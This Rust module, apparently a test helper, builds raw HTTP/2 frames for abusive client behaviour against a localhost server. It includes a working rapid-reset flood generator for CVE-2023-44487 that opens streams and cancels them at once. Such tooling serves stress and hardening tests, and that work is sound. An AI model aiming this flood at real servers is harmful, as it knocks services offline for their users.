//! Raw HTTP/2 frames over cleartext (prior knowledge), for what an HTTP/2 client library would
//! not do: floods, resets before the server takes a stream, windows kept shut.

use tokio::io::{AsyncRead, AsyncReadExt};

/// The client's connection preface.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frame type DATA.
pub const DATA: u8 = 0x0;
/// Frame type HEADERS.
pub const HEADERS: u8 = 0x1;
/// Frame type RST_STREAM.
pub const RST_STREAM: u8 = 0x3;
/// Frame type SETTINGS.
pub const SETTINGS: u8 = 0x4;
/// Frame type PING.
pub const PING: u8 = 0x6;
/// Frame type GOAWAY.
pub const GOAWAY: u8 = 0x7;
/// Flag END_STREAM (DATA, HEADERS).
pub const END_STREAM: u8 = 0x1;
/// Flag ACK (SETTINGS, PING).
pub const ACK: u8 = 0x1;
/// Error code REFUSED_STREAM.
pub const REFUSED_STREAM: u32 = 0x7;
/// Error code CANCEL.
pub const CANCEL: u32 = 0x8;
/// Error code ENHANCE_YOUR_CALM.
pub const ENHANCE_YOUR_CALM: u32 = 0xb;

/// One frame: its header and payload.
#[derive(Debug)]
pub struct Frame {
    /// The frame type.
    pub kind: u8,
    /// Its flags.
    pub flags: u8,
    /// Its stream identifier.
    pub stream: u32,
    /// Its payload.
    pub payload: Vec<u8>,
}

/// One frame of `kind` with `flags` on `stream`, carrying `payload`.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap();
    let mut out = len.to_be_bytes()[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

fn literal(out: &mut Vec<u8>, text: &str) {
    out.push(u8::try_from(text.len()).unwrap());
    out.extend_from_slice(text.as_bytes());
}

/// HEADERS (END_HEADERS, END_STREAM) for `GET path` as an `EventSource` sends it, in
/// HPACK literals without Huffman coding.
pub fn get(stream: u32, path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86]; // :method GET, :scheme http
    block.push(0x04); // :path, literal without indexing
    literal(&mut block, path);
    block.push(0x01); // :authority
    literal(&mut block, "localhost");
    block.push(0x00); // a new name
    literal(&mut block, "accept");
    literal(&mut block, "text/event-stream");
    frame(HEADERS, 0x4 | END_STREAM, stream, &block)
}

/// The next frame `io` holds; `None` once it ends.
pub async fn read(io: &mut (impl AsyncRead + Unpin)) -> Option<Frame> {
    let mut head = [0u8; 9];
    io.read_exact(&mut head).await.ok()?;
    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
    let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
    let mut payload = vec![0; len];
    io.read_exact(&mut payload).await.ok()?;
    Some(Frame {
        kind: head[3],
        flags: head[4],
        stream,
        payload,
    })
}

/// A rapid-reset flood (CVE-2023-44487): `count` streams, each opened with `GET path` and
/// reset (CANCEL) at once, before a server can take it.
pub fn rapid_reset(count: u32, path: &str) -> Vec<u8> {
    let mut flood = Vec::new();
    for n in 0..count {
        let stream = 2 * n + 1;
        flood.extend(get(stream, path));
        flood.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
    }
    flood
}
